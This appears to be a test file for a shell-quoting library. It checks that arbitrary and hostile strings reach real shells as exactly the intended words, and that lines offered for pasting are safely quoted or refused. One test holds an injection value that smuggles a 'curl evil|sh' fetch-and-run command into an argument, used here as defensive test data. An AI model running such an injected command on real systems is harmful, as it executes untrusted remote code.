import {execFileSync, spawnSync} from 'node:child_process';
import fc from 'fast-check';
import {describe, expect, test} from 'vitest';
import {UnflapError} from '../../src/base/errors.ts';
import {commandLine, pasteableLine, shlexWord, word} from '../../src/base/quote.ts';
import {corpus, shellAttacks} from '../hostile/corpus.ts';
import {goShlexSplit} from './go-shlex.ts';

const sendable = (text: string) => text.isWellFormed() && !text.includes('\0') && !text.includes('\ufffd');

const isThere = (shell: readonly string[]) =>
	spawnSync(shell[0] ?? '', [...shell.slice(1), '-c', 'exit 7']).status === 7;
const shells = [['dash'], ['bash'], ['bash', '--posix'], ['busybox', 'sh']].filter(isThere);

/** Characters that mean something to a shell, mixed with any others. */
const awkward = fc.string({
	unit: fc.oneof(
		{weight: 3, arbitrary: fc.constantFrom(...'\'"\\$`!*?[]{}()<>|&;#~=%^ \t\n\r-/.,:@+a0')},
		{weight: 1, arbitrary: fc.string({unit: 'binary', minLength: 1, maxLength: 1})},
	),
	maxLength: 24,
});

const strings = [
	...corpus.map(({text}) => text.slice(0, 2000)),
	...fc.sample(awkward, {numRuns: 100_000, seed: 7}),
].filter(sendable);

/** Lines short enough for one argument of a process. */
const batches = function* (texts: readonly string[]) {
	let batch: string[] = [];
	let length = 0;
	for (const text of texts) {
		const cost = Buffer.byteLength(text) * 4 + 8;
		if (length + cost > 100_000) {
			yield batch;
			batch = [];
			length = 0;
		}
		batch.push(text);
		length += cost;
	}
	yield batch;
};

describe.each(shells.map(shell => [shell.join(' '), shell] as const))('%s', (_name, shell) => {
	test('Q1 sees exactly the words that were meant, 100,000 of them, behind the split of the agent', () => {
		for (const batch of batches(strings)) {
			// Two layers, as on a box: the agent splits the line, then a shell reads its last word.
			const script = `printf '%s\\0' ${commandLine(batch)}`;
			const line = [...shell, '-c', script].map(shlexWord).join(' ');
			const [file = '', ...args] = goShlexSplit(line);
			const seen = execFileSync(file, args, {
				maxBuffer: 16_777_216,
				env: {PATH: process.env['PATH'] ?? ''},
				// A bash whose stdin is a socket takes itself for a remote login and reads the user's files.
				stdio: ['ignore', 'pipe', 'inherit'],
			});
			expect(seen.toString('utf8').split('\0').slice(0, -1)).toEqual(batch);
		}
	});
});

test('Q1 at least one real shell was asked', () => {
	expect(shells.length).toBeGreaterThan(0);
});

test.each(['a\0b', '\ud800', 'a\ufffdb'])('Q1 %j is refused, since it would arrive changed', text => {
	expect(() => word(text)).toThrow(UnflapError);
	expect(() => shlexWord(text)).toThrow(UnflapError);
});

test('plain words stay legible', () => {
	expect(commandLine(['journalctl', '--unit=web.service', '-n', '5', 'a b'])).toBe(
		"journalctl --unit=web.service -n 5 'a b'",
	);
	expect(word('PATH=/evil')).toBe("'PATH=/evil'");
	expect(word('')).toBe("''");
});

test.each(shellAttacks.filter(({text}) => /[\n\r]/.test(text)))(
	'T9 no line is offered for pasting with: $name',
	({text}) => {
		expect(pasteableLine(['aws', text])).toBeNull();
	},
);

test('T9 a line for pasting is quoted like one that runs', () => {
	expect(pasteableLine(['aws', '--name', "x'; curl evil|sh #"])).toBe("aws --name 'x'\\''; curl evil|sh #'");
	expect(pasteableLine(['aws', 'web\u200bprod'])).toBeNull();
	expect(pasteableLine(['aws', 'web\u202eprod'])).toBeNull();
});
